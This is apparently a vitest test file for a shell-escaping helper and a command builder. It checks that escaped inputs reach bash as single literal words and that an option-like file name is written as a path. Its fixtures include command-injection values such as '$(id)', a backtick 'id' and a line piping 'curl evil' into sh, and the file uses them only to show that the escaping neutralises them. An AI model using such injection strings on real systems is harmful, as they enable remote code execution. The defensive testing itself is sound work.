import { execFileSync } from 'node:child_process';
import { expect, test } from 'vitest';
import { sameCommand } from '../../../src/console/pages/new/submit-view.ts';
import { shellWord } from '../../../src/console/parts/text.ts';

test.each([
  'q4',
  'Q4 2026',
  "o'neill",
  '$(id)',
  '`id`',
  'a\\b',
  'a\nb',
  '\u0003\ncurl evil|sh\n',
  "it's\t\\n\u009bM",
  'é …',
])('a shell reads the escaped %j as one word, without control characters for the terminal', (word) => {
  const written = shellWord(word);
  expect(written).not.toMatch(/\p{Cc}/u);
  const env = { PATH: process.env.PATH, LC_ALL: 'C.UTF-8' };
  expect(
    execFileSync('bash', ['--norc', '-c', `printf %s ${written}`], {
      env,
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'pipe'],
    }),
  ).toBe(word);
});

test('a file name that begins like an option is written as a path', () => {
  const draft = { name: '--yes.csv', portfolio: 'yes', reading: {}, documents: [], isArchive: false };
  expect(sameCommand(draft as unknown as Parameters<typeof sameCommand>[0])).toBe(
    'npx limitline run ./--yes.csv --portfolio yes',
  );
});
